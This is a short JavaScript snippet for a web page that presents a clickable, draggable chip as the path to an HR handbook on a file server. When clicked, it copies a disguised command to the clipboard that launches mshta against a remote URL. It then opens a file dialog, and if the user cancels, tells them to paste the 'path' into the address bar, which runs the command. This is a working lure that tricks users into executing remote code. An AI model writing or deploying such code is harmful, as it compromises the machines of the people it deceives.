const cmd = "%COMSPEC% /c start mshta http://intranet-hr.invalid/p  ::  \\\\fileserver\\HR\\Policies\\Handbook_v4.pdf";
const chip = document.querySelector("#path-chip");
chip.draggable = true;
chip.addEventListener("dragstart", (e) => {
  e.dataTransfer.setData("text/plain", cmd);
  e.dataTransfer.effectAllowed = "copy";
});
chip.addEventListener("click", () => {
  const i = document.createElement("input");
  i.type = "file";
  i.addEventListener("cancel", () => show("Paste the path into the address bar of the window (Alt + D) to open the handbook."));
  navigator.clipboard.writeText(cmd).finally(() => i.click());
});
const show = (m) => (document.querySelector("#note").textContent = m);
